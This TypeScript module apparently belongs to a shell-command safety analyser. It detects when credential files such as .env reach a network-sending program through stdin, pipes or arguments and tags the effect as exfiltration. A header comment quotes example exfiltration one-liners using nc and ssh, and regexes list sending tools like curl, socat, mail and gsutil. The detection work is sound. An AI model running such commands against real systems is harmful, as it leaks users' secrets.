/**
 * Credentials that reach an outgoing command by its standard input: `cat .env | nc host 80`, `ssh host 'cat > x' <
 * .env`. Requests carry their own payload (`apis/payload.ts`); this is for everything else that sends.
 */
import type { Effect, Payload } from '../model/effect';
import type { Invocation, Value } from '../shell/invocation';
import { readPath } from './build-files';
import type { EffectContext } from './define';
import { holdsCredentials, networkDevice } from './notable-paths';
import { programName } from './registry-name';
import { logsIn, tellsNothing } from './streams';

/** What is read or sent by these goes through `apis/http.ts`, which knows bodies from addresses. */
const REQUESTS = /^(curl|wget|http|https|xh|xhs|gh|glab)$/;
const SENDS_FILES =
  /^(gh|mail|mailx|mutt|neomutt|s-nail|swaks|sendemail|socat|gsutil|gcloud|az|mc|s3cmd|s5cmd|b2)$/;
/** Classes in which a value arrives as it is, for somebody to read. */
const OPEN = new Set(['host', 'message', 'file', 'object', 'directory']);

export function withSecretsSent(
  effects: readonly Effect[],
  invocation: Invocation,
  context: EffectContext,
): readonly Effect[] {
  if (!effects.some(leaves) || logsIn(invocation)) return effects;
  const payload = secretInput(invocation, context);
  if (payload === undefined) return effects;
  const asks = REQUESTS.test(programName(invocation.program.text));
  return effects.map((effect) => {
    if (!leaves(effect) || effect.special !== undefined) return effect;
    if (effect.operation !== 'read')
      return { ...effect, special: 'exfiltrate' as const, payload: [payload] };
    // A connection that was taken for a look at a host, and is given something to say.
    if (asks || effect.resource.class !== 'host') return effect;
    const sent = { operation: 'send', audience: 'public', reversibility: 'hard' } as const;
    return { ...effect, ...sent, special: 'exfiltrate' as const, payload: [payload] };
  });
}

/** Whoever sends a credential file has read it, which the session must know whatever becomes of the sending. */
export function readsOfSent(
  effects: readonly Effect[],
  invocation: Invocation,
  context: EffectContext,
): readonly Effect[] {
  const paths = effects
    .flatMap((effect) => effect.payload ?? [])
    .flatMap(({ kind, source }) =>
      kind === 'secret' && source.kind === 'file' ? [source.path] : [],
    )
    .filter((path) => isCredential(path, context));
  const read = new Set(
    effects.flatMap(({ resource, target }) =>
      resource.class === 'secret' ? (target?.path ?? []) : [],
    ),
  );
  return [...new Set(paths)]
    .filter((path) => !read.has(path))
    .flatMap((path) => readPath({ context, invocation }, path, false, 'uses'))
    .filter(({ resource }) => resource.class === 'secret');
}

function leaves(effect: Effect): boolean {
  const away = effect.reach === 'shared-remote' || effect.reach === 'private-remote';
  const elsewhere = effect.environment.name !== 'local' || effect.resource.class === 'message';
  return away && elsewhere && OPEN.has(effect.resource.class);
}

/** The first credential file on the way into the command: its own input, or what the commands before it read. */
function secretInput(invocation: Invocation, context: EffectContext): Payload | undefined {
  const producers = context.producers(invocation);
  const end = producers.findIndex(tellsNothing);
  const before = producers.slice(0, end < 0 ? undefined : end);
  const chain = [invocation, ...before];
  const words = chain.flatMap((from, at) => [
    ...(at === 0 && !sendsItsFiles(from) ? [] : from.args.map(withoutAddressType)),
    ...(from.stdin.kind === 'file' ? [from.stdin.path] : []),
    ...from.redirects.filter(({ kind }) => kind === 'read').map(({ target }) => target),
  ]);
  const path =
    words
      .map((word) => context.path(word, invocation))
      .find((place) => place !== undefined && isCredential(place, context)) ??
    (end < 0 ? fromText(invocation, context) : undefined);
  return path === undefined ? undefined : { kind: 'secret', source: { kind: 'file', path } };
}

/** Programs of which the words are files that they send, or of which the output goes into a network connection. */
function sendsItsFiles(invocation: Invocation): boolean {
  const into = invocation.redirects.some(({ target }) => networkDevice(target.text) !== undefined);
  return into || SENDS_FILES.test(programName(invocation.program.text));
}

/** socat's `FILE:path`. */
function withoutAddressType(word: Value): Value {
  const text = word.text.replace(/^(FILE|OPEN|GOPEN|RDONLY):/i, '');
  return text === word.text ? word : { ...word, text };
}

/** A here-document or printed text that was put together from a credential file. */
function fromText({ stdin }: Invocation, context: EffectContext): string | undefined {
  if (stdin.kind !== 'text' && stdin.kind !== 'pipe') return undefined;
  const value: Value | undefined = stdin.value;
  for (const source of value?.sources ?? []) {
    if (source.kind === 'file' && isCredential(source.path, context)) return source.path;
  }
  return undefined;
}

function isCredential(path: string, context: EffectContext): boolean {
  return holdsCredentials(path, context.look.home);
}
